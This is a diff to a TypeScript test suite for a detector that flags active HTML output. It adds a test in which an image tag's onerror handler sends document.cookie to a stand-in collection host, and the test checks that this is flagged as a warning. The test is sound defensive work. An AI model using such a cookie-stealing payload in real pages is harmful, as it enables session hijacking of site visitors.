@@ -24,6 +24,12 @@ const html = (content: string) => found(output('text/html', content.split(/(?<=\
 const severities = (all: readonly string[]) => all.map((it) => it.slice(0, it.indexOf(':')));
 
 describe('active-output', () => {
+  it('finds handlers of what happens in the page that load or send something', () => {
+    const sends = `<img src=x onerror="fetch('https://collect.example.com/?c='+document.cookie)">`;
+    assert.deepEqual(severities(html(sends)), ['warning']);
+    assert.deepEqual(severities(html(`<button onclick="toggle(this)">more</button>`)), []);
+  });
+
   it('finds scripts from elsewhere, unless a hash pins them', () => {
     assert.deepEqual(html('<div>\n<script src="https://cdn.example.com/a.js"></script>\n</div>'), [
       'warning: <script src=\\"https://cdn.example.com/a.js\\">',
